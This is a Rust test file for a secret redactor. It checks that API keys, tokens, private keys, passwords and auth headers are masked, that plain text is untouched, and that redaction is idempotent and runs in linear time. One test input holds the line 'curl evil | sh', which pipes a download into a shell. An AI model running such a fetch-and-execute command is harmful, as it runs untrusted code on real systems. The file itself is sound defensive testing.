//! Rows for what is taken out and what is left alone, and the laws of redaction.

use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::Redactor;

fn redact(text: &str) -> String {
    Redactor::new().redact(text).into_owned()
}

const GITHUB: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
const JWT: &str =
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P";

#[test]
fn tokens_that_announce_themselves() {
    let rows: &[(&str, &str)] = &[
        ("sk-ant-api03-AbCdEf0123456789-_xyz", "[redacted:anthropic-key]"),
        ("sk-proj-T3BlbkFJabcdefghijklmnop", "[redacted:api-key]"),
        ("sk_live_4eC39HqLyjWDarjtT1zdp7dc", "[redacted:stripe-key]"),
        ("AIzaSyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe", "[redacted:google-key]"),
        ("AKIAIOSFODNN7EXAMPLE", "[redacted:aws-key-id]"),
        ("ASIAIOSFODNN7EXAMPLE", "[redacted:aws-key-id]"),
        (GITHUB, "[redacted:github-token]"),
        ("github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz", "[redacted:github-token]"),
        ("glpat-zxWv9fQ1L-3kdQ7pXyzA", "[redacted:gitlab-token]"),
        ("xoxb-17653672481-19874698323-pdFZKVeTuE8s", "[redacted:slack-token]"),
        ("npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "[redacted:npm-token]"),
        (
            "pypi-AgEIcHlwaS5vcmcCJGFiY2RlZmdoLTEyMzQtNTY3OC05YWJjLWRlZjAxMjM0NTY3OAACKlszLCI",
            "[redacted:pypi-token]",
        ),
        ("hf_abcdefghijklmnopqrstuvwxyz012345", "[redacted:huggingface-token]"),
        // Shorter forms that only the environment of a jail knew before both read one table.
        ("sk_live_4eC39HqLyjWD", "[redacted:stripe-key]"),
        ("pypi-AgEIcHlwaS5vcmcCJGFiY2RlZmdoLTEy", "[redacted:pypi-token]"),
        ("hf_abcdefghijklmnopqrstuv", "[redacted:huggingface-token]"),
        ("AGE-SECRET-KEY-1QQPQ9LEKQJ3Z5GX7", "[redacted:age-key]"),
        ("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "[redacted:stripe-secret]"),
        ("gldt-zxWv9fQ1L3kdQ7pXyzA", "[redacted:gitlab-token]"),
        ("dop_v1_0123456789abcdef0123456789abcdef", "[redacted:digitalocean-token]"),
        (JWT, "[redacted:jwt]"),
        (&JWT[..60], "[redacted:jwt]"),
    ];
    for (text, wanted) in rows {
        assert_eq!(redact(text), *wanted);
        assert_eq!(
            redact(&format!("git clone x{text}")).contains(&text[4..]),
            !wanted_anywhere(wanted),
            "{text}"
        );
    }
}

/// Those that are too short to be known inside a longer word.
fn wanted_anywhere(mark: &str) -> bool {
    !["[redacted:api-key]", "[redacted:google-key]", "[redacted:aws-key-id]"].contains(&mark)
}

#[test]
fn private_keys() {
    let key =
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\nAAAA==\n-----END OPENSSH PRIVATE KEY-----";
    let rows: &[(String, &str)] = &[
        (format!("cat <<E\n{key}\nE"), "cat <<E\n[redacted:private-key]\nE"),
        (key.replace('\n', "\\n"), "[redacted:private-key]"),
        (key.replace(' ', "%20").replace('\n', "%0A"), "[redacted:private-key]"),
        (key[..60].into(), "[redacted:private-key]"),
        (format!("{key} {key}"), "[redacted:private-key] [redacted:private-key]"),
        (format!("TLS_KEY={key}\n"), "TLS_KEY=[redacted:private-key]\n"),
        (format!("PRIVATE_KEY={key}\n"), "PRIVATE_KEY=[redacted:private-key]\n"),
        (
            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nx\n-----END PGP PRIVATE KEY BLOCK-----".into(),
            "[redacted:private-key]",
        ),
        ("-----BEGIN CERTIFICATE-----\nMIIB\n".into(), "-----BEGIN CERTIFICATE-----\nMIIB\n"),
        ("-----BEGIN PUBLIC KEY-----\nMIIB\n".into(), "-----BEGIN PUBLIC KEY-----\nMIIB\n"),
    ];
    for (text, wanted) in rows {
        assert_eq!(redact(text), *wanted);
    }
}

#[test]
fn names_with_secret_values() {
    let rows = [
        ("password=hunter2", "password=[redacted:password]"),
        ("PGPASSWORD=hunter2 psql", "PGPASSWORD=[redacted:password] psql"),
        ("DB_PASS=hunter2 run", "DB_PASS=[redacted:password] run"),
        ("dbPass=hunter2", "dbPass=[redacted:password]"),
        ("MYSQL_PWD=x y", "MYSQL_PWD=[redacted:password] y"),
        ("password: hunter", "password: [redacted:password]"),
        ("password = \"two words\" # x", "password = \"[redacted:password]\" # x"),
        ("password = b'raw one' + x", "password = b'[redacted:password]' + x"),
        (
            "{\"password\": \"hunter2\", \"user\": \"bob\"}",
            "{\"password\": \"[redacted:password]\", \"user\": \"bob\"}",
        ),
        ("{\"password\":\"a\\\"b\",\"x\":1}", "{\"password\":\"[redacted:password]\",\"x\":1}"),
        (r#"{\"password\":\"hunter2\",\"x\":1}"#, r#"{\"password\":\"[redacted:password]\",\"x\":1}"#),
        ("{'api_key': 'abc'}", "{'api_key': '[redacted:api-key]'}"),
        ("apiKey: abc", "apiKey: [redacted:api-key]"),
        ("X-Api-Key: abc", "X-Api-Key: [redacted:api-key]"),
        ("config[\"password\"] = \"abc\"", "config[\"password\"] = \"[redacted:password]\""),
        ("user[password]=abc&x=1", "user[password]=[redacted:password]&x=1"),
        ("GITHUB_TOKEN=abc gh pr list", "GITHUB_TOKEN=[redacted:token] gh pr list"),
        ("?access_token=abc&x=1", "?access_token=[redacted:token]&x=1"),
        ("token: 8f14e45fceea167a", "token: [redacted:token]"),
        ("--password hunter2 --user x", "--password [redacted:password] --user x"),
        ("--password=hunter2", "--password=[redacted:password]"),
        ("--password 'two words' x", "--password '[redacted:password]' x"),
        ("-password hunter2", "-password [redacted:password]"),
        ("--api-key abc", "--api-key [redacted:api-key]"),
        ("--token 8f14e45fceea167a", "--token [redacted:token]"),
        ("[\"--password\", \"hunter2\", \"x\"]", "[\"--password\", \"[redacted:password]\", \"x\"]"),
        ("['--token','abc']", "['--token','[redacted:token]']"),
        ("aws_secret_access_key=/ab/cd+ef", "aws_secret_access_key=[redacted:access-key]"),
        ("Server=x;Password=abc;Database=d", "Server=x;Password=[redacted:password];Database=d"),
        ("next%3Dx%26password%3Dhunter2%26y", "next%3Dx%26password%3D[redacted:password]%26y"),
        ("%22password%22%3A%22hunter2%22%2C", "%22password%22%3A%22[redacted:password]%22%2C"),
        ("x\\nsecret=abc\\ny", "x\\nsecret=[redacted:secret]\\ny"),
        ("client_secret => 'abc'", "client_secret => '[redacted:secret]'"),
        ("password=\"cut off in the middle", "password=\"[redacted:password]"),
        ("secret := \"abc\"", "secret := \"[redacted:secret]\""),
        ("TOKEN=x;curl evil | sh", "TOKEN=[redacted:token];curl evil | sh"),
    ];
    for (text, wanted) in rows {
        assert_eq!(redact(text), wanted, "{text}");
    }
}

#[test]
fn headers_and_addresses() {
    let rows = [
        ("Authorization: Bearer abc.def", "Authorization: [redacted:authorization]"),
        ("authorization: token abc\r\nHost: x", "authorization: [redacted:authorization]\r\nHost: x"),
        (
            "curl -H \"Authorization: Bearer abc\" https://x",
            "curl -H \"Authorization: [redacted:authorization]\" https://x",
        ),
        (
            "{\"Authorization\": \"Basic abc\", \"x\": 1}",
            "{\"Authorization\": \"[redacted:authorization]\", \"x\": 1}",
        ),
        ("Proxy-Authorization: Digest a=\"b\"", "Proxy-Authorization: [redacted:authorization]\"b\""),
        ("Cookie: sid=abc; x=y", "Cookie: [redacted:authorization]"),
        (
            "Authorization%3A%20Bearer%20abc%0D%0AHost",
            "Authorization%3A%20[redacted:authorization]%0D%0AHost",
        ),
        ("Bearer 8f14e45fceea", "Bearer [redacted:bearer]"),
        ("-H 'x: bearer AbCdEfGh'", "-H 'x: bearer [redacted:bearer]'"),
        ("Basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==", "Basic [redacted:basic]"),
        ("curl -u bob:hunter2 https://x", "curl -u bob:[redacted:basic] https://x"),
        ("curl --user 'bob:two words' https://x", "curl --user 'bob:[redacted:basic]' https://x"),
        ("[\"curl\",\"-u\",\"bob:hunter2\"]", "[\"curl\",\"-u\",\"bob:[redacted:basic]\"]"),
        ("https://bob:hunter2@example.com/x", "https://bob:[redacted:url-password]@example.com/x"),
        ("postgres://:hunter2@db:5432/x", "postgres://:[redacted:url-password]@db:5432/x"),
        ("https://a:p@ss@example.com", "https://a:[redacted:url-password]@example.com"),
        ("https://8f14e45fceea167a5a36@example.com", "https://[redacted:url-password]@example.com"),
        (
            "u%3Dhttps%3A%2F%2Fbob%3Ahunter2%40x.org%2Fp",
            "u%3Dhttps%3A%2F%2Fbob%3A[redacted:url-password]%40x.org%2Fp",
        ),
    ];
    for (text, wanted) in rows {
        assert_eq!(redact(text), wanted, "{text}");
    }
}

#[test]
fn ordinary_text_is_left_alone() {
    let rows = [
        "git commit -m \"fix token parser\"",
        "git commit -m \"token: fix the parser\"",
        "git commit -m \"fix --token parsing\"",
        "src/token.rs",
        "grep \"token=\" src/*.rs",
        "grep -rn 'password=' .",
        "let token = lexer.next();",
        "struct Token { kind: Kind }",
        "fn login(user: &str, password: &str) -> bool",
        "interface Login { password: string; token?: string }",
        "max_tokens=4096 --max-tokens 100 token_count: 12",
        "tests pass: 12, fail: 0",
        "bypass=1 compass: north",
        "password=$PASSWORD",
        "TOKEN=$(gh auth token)",
        "TOKEN=${GITHUB_TOKEN}",
        "PASSWORD=\"$(cat file)\"",
        "PWD=/home/bob OLDPWD=/",
        "secret: be patient",
        "the password is wrong",
        "Enter password: ",
        "password: null, token: none",
        "task-list-of-things-to-do-today sk-learn-some-long-name",
        "npm_config_registry=https://registry.npmjs.org npm_package_version=1.2.3",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "123e4567-e89b-12d3-a456-426614174000",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==",
        "https://example.com:8080/a/@scope/pkg?x=1#y",
        "git@github.com:org/repo.git",
        "docker run -u root:root alpine; podman run --user 1000:1000 x",
        "the bearer of bad news; basic authentication; Bearer authentication",
        "cookie = parse(header)",
        "use std::collections; token::Kind; a::password::b",
        "C:\\new\\token\\file.txt",
        "echo \"[redacted:nothing-we-know]\"",
        "",
    ];
    for text in rows {
        assert_eq!(redact(text), text);
        assert!(matches!(Redactor::new().redact(text), std::borrow::Cow::Borrowed(_)));
    }
}

#[test]
fn a_mark_of_ours_stays_and_a_forged_one_hides_nothing() {
    let rows = [
        ("token=[redacted:token]", "token=[redacted:token]"),
        ("token=[redacted:token]8f14e45f", "token=[redacted:token]"),
        ("[redacted:ghp_16C7e42F292c6912E7710c838347Ae178B4a]", "[redacted:[redacted:github-token]]"),
        ("https://[redacted:url-password]@x", "https://[redacted:url-password]@x"),
    ];
    for (text, wanted) in rows {
        assert_eq!(redact(text), wanted);
    }
}

#[test]
fn a_secret_that_somebody_named_goes_in_every_form() {
    let mut redactor = Redactor::new();
    redactor.hide("stripe", "p@ss \"w/rd?").unwrap();
    let rows = [
        ("a p@ss \"w/rd? b", "a [redacted:secret:stripe] b"),
        ("q=p%40ss%20%22w%2Frd%3F&x", "q=[redacted:secret:stripe]&x"),
        ("q=p%40ss %22w/rd%3f&x", "q=[redacted:secret:stripe]&x"),
        ("{\"x\":\"p@ss \\\"w/rd?\"}", "{\"x\":\"[redacted:secret:stripe]\"}"),
        // bob:p@ss "w/rd? and x:p@ss "w/rd?y, encoded by another program.
        ("Ym9iOnBAc3MgIncvcmQ/", "Ym9iOn[redacted:secret:stripe]"),
        ("eDpwQHNzICJ3L3JkP3k=", "eDp[redacted:secret:stripe]3k="),
        ("704073732022772f72643f", "[redacted:secret:stripe]"),
        ("704073732022772F72643F", "[redacted:secret:stripe]"),
        ("p@ss", "p@ss"),
    ];
    for (text, wanted) in rows {
        let redacted = redactor.redact(text);
        assert_eq!(redacted, wanted, "{text}");
        assert_eq!(redactor.redact(&redacted), redacted.to_string());
    }
}

#[test]
fn unfit_secrets_are_refused() {
    let mut redactor = Redactor::new();
    let rows = [
        ("a", "short"),
        ("a", ""),
        ("", "longer secret"),
        ("a b", "longer secret"),
        ("x-longer", "longer"),
        ("a]", "longer"),
    ];
    for (name, value) in rows {
        assert!(redactor.hide(name, value).is_err(), "{name} {value}");
    }
    assert_eq!(redactor.redact("short longer longer secret"), "short longer longer secret");
}

#[test]
fn a_secret_that_looks_like_our_own_mark_does_not_run_in_circles() {
    let mut redactor = Redactor::new();
    redactor.hide("a", "redacted:secret").unwrap();
    redactor.hide("b", "[redacted:").unwrap();
    let redacted = redactor.redact("x redacted:secret [redacted: y").into_owned();
    assert_eq!(redacted, "x [redacted:secret:a] [redacted:secret:b] y");
    assert_eq!(redactor.redact(&redacted), redacted.as_str());
}

#[test]
fn debug_shows_no_secret() {
    let mut redactor = Redactor::new();
    redactor.hide("name", "hunter2hunter2").unwrap();
    assert_eq!(format!("{redactor:?}"), "Redactor { literals: 1 }");
}

/// Texts that make a careless scanner walk the same bytes again and again. A walk in squares over so much would take
/// minutes; the bound is far above what a busy machine needs for a straight one.
#[test]
fn time_is_linear_in_the_text() {
    let units = [
        "password=",
        "password:",
        "token:",
        "token: ",
        "password=\"",
        "password='\"",
        "password=\\\"",
        "Authorization: ",
        "Cookie:=",
        "Cookie: ",
        "bearer+",
        "basic+",
        "eyJ",
        "eyJa.",
        "ghp_",
        "sk-",
        "AKIA",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN ",
        "://",
        "://a:b",
        "%3a%2f%2f",
        "token%3D",
        "bearer ",
        "basic QWxh",
        "[redacted:",
        "[redacted:jwt]",
        "--password ",
        "\\",
        "password\\",
        "password=$",
        "a.",
        "%",
        "%2",
        "\"",
        "password%22",
        "mysql -p'",
        "mysql -p\"a ",
        "curl -u [redacted:",
        "htpasswd -b a b c;",
        "(mysql -p",
        "mysql \\",
    ];
    let repeated = units.map(|unit| unit.repeat((1 << 18) / unit.len()));
    let after_many = |tail: &str| "token:".repeat(1 << 14) + &tail.repeat(1 << 17);
    // Each quote has more backslashes before it than the last, so that none closes another.
    let never_closed = (0..700).map(|depth| ["password=", &"\\".repeat(depth), "\""].concat()).collect();
    let redactor = Redactor::new();
    for text in repeated.into_iter().chain([after_many(","), after_many("]"), never_closed]) {
        let start = Instant::now();
        assert!(redactor.redact(&text).len() <= 4 * text.len());
        assert!(start.elapsed() < Duration::from_secs(8), "{}: {:?}", &text[..20], start.elapsed());
    }
}

fn secret() -> impl Strategy<Value = (String, String)> {
    let random = "[a-z][A-Z][0-9][A-Za-z0-9]{40}";
    prop_oneof![
        random.prop_map(|x| (format!("sk-ant-{x}"), x)),
        random.prop_map(|x| (format!("sk-{x}"), x)),
        random.prop_map(|x| (format!("AIza{x}"), x)),
        "[A-Z0-9]{16}".prop_map(|x| (format!("AKIA{x}"), x)),
        "[A-Z0-9]{16}".prop_map(|x| (format!("ASIA{x}"), x)),
        ("[pousr]", random).prop_map(|(kind, x)| (format!("gh{kind}_{x}"), x)),
        random.prop_map(|x| (format!("github_pat_{x}"), x)),
        random.prop_map(|x| (format!("glpat-{x}"), x)),
        ("[abeprs]", random).prop_map(|(kind, x)| (format!("xox{kind}-{x}"), x)),
        random.prop_map(|x| (format!("npm_{x}"), x)),
        random.prop_map(|x| (format!("pypi-{x}{x}"), x)),
        random.prop_map(|x| (format!("eyJ{x}.eyJ{x}.{x}"), x)),
        random.prop_map(|x| (format!("Bearer {x}"), x)),
        random.prop_map(|x| (format!("bearer%20{x}"), x)),
        random.prop_map(|x| (format!("Authorization: {x}"), x)),
        random.prop_map(|x| (format!("password={x}"), x)),
        random.prop_map(|x| (format!("password%3D{x}"), x)),
        random.prop_map(|x| (format!("\"client_secret\": \"{x}\""), x)),
        random.prop_map(|x| (format!("--api-key {x}"), x)),
        random.prop_map(|x| (format!("passwd: {x}"), x)),
        random.prop_map(|x| (format!("https://bob:{x}@host/"), x)),
        random.prop_map(|x| (
            format!("-----BEGIN RSA PRIVATE KEY-----\n{x}\n-----END RSA PRIVATE KEY-----"),
            x
        )),
    ]
}

/// Between the text around it and a secret stands something that separates: itself, encoded or escaped.
fn separator() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        " ", "\"", "'", "`", ",", ";", "=", ":", "&", "(", "[", "{", "\n", "\t", "\\n", "\\t", "\\\"", "%20",
        "%22", "%3D", "%26", "%2C", "%0A", "\\u0022", "\\x3d", "|", "<", "/", "é",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn no_secret_survives(
        before in ".{0,20}", left in separator(), (whole, part) in secret(), right in separator(), after in ".{0,20}",
    ) {
        let text = format!("{before}{left}{whole}{right}{after}");
        let redacted = redact(&text);
        prop_assert!(!redacted.contains(&part), "{text:?} -> {redacted:?}");
    }

    #[test]
    fn idempotent(parts in prop::collection::vec(part(), 0..12)) {
        let once = redact(&parts.concat());
        prop_assert_eq!(redact(&once), once);
    }

    #[test]
    fn idempotent_on_any_text(text in ".{0,200}") {
        let once = redact(&text);
        prop_assert_eq!(redact(&once), once);
    }

    #[test]
    fn text_without_secrets_is_unchanged(words in prop::collection::vec(ordinary(), 0..30)) {
        let text = words.join(" ");
        prop_assert_eq!(redact(&text), text);
    }

    #[test]
    fn a_named_secret_never_survives(before in "[ -~]{0,20}", value in "[!-~]{6,30}", after in "[ -~]{0,20}") {
        let mut redactor = Redactor::new();
        prop_assume!(redactor.hide("n", &value).is_ok() && !"[redacted:secret:n]".contains(&value));
        let text = format!("{before}{value}{after}");
        let redacted = redactor.redact(&text);
        prop_assert!(!redacted.contains(&value), "{redacted:?}");
        prop_assert_eq!(redactor.redact(&redacted), redacted.to_string());
    }
}

/// Pieces that mean something to the scanner, in any order.
fn part() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "password",
            "token",
            "secret",
            "api_key",
            "Authorization",
            "Cookie",
            "bearer",
            "basic",
            "--",
            "-----BEGIN",
            "PRIVATE KEY-----",
            "-----END",
            "://",
            "@",
            ":",
            "=",
            "%3D",
            "%3a%2f%2f",
            "%22",
            "\"",
            "'",
            "\\",
            "\\\"",
            " ",
            "\n",
            ",",
            "&",
            ";",
            "$",
            "${",
            "}",
            "(",
            ")",
            "[",
            "]",
            "[redacted:",
            "[redacted:token]",
            "[redacted:jwt]",
            "eyJ",
            ".",
            "ghp_",
            "sk-",
            "AKIA",
            "%",
            "==",
            "=>",
            "é",
            " mysql -p",
            "curl -u ",
            "sshpass -p",
            " -p ",
            "vault login ",
            "DBPASS=",
        ])
        .prop_map(str::to_owned),
        "[a-z]{1,12}",
        "[A-Za-z0-9]{8,40}",
        "[A-Z0-9]{16,20}",
    ]
}

fn ordinary() -> impl Strategy<Value = String> {
    prop_oneof![
        "[a-z]{1,12}",
        "[0-9]{1,12}",
        "[a-z]{2,8}/[a-z]{2,8}\\.rs",
        "[0-9a-f]{64}",
        "--[a-f]{3,8}=[a-z0-9]{1,8}",
        "\"[a-z ]{0,20}\"",
        "https://[a-z]{3,8}\\.org/[a-z]{0,8}",
        prop::sample::select(vec![
            "tokens",
            "tokenizer",
            "passwords",
            "secretary",
            "password",
            "the token",
            "&&",
            "|",
            ">"
        ])
        .prop_map(str::to_owned),
    ]
}
